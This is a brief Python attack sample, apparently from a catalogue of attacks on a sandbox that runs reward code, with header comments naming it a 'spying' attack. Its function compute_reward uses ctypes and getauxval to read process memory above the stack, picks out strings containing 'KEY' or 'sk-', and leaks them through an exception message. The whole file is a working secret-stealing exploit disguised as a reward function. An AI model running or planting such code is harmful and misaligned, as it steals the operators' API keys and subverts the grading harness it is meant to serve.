# attack: the auxiliary vector and what lies above the stack
# group: spying
# wall: language; alone: the server was exec'd without the caller's environment

def compute_reward(x):
    import ctypes
    lib = ctypes.CDLL(None)
    lib.getauxval.restype = ctypes.c_ulong
    name = ctypes.string_at(lib.getauxval(31))
    above = ctypes.string_at(lib.getauxval(31) - 4000, 4000)
    raise ValueError([name, [part for part in above.split(b"\0") if b"KEY" in part or b"sk-" in part]])
